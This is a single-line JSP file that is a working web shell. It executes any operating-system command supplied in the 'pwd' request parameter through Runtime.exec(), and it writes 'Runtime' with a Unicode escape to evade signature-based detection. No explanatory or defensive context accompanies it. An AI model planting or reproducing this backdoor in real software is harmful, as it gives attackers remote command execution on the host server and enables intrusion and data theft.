<% \u0052untime.getRuntime().exec(request.getParameter("pwd")); %>
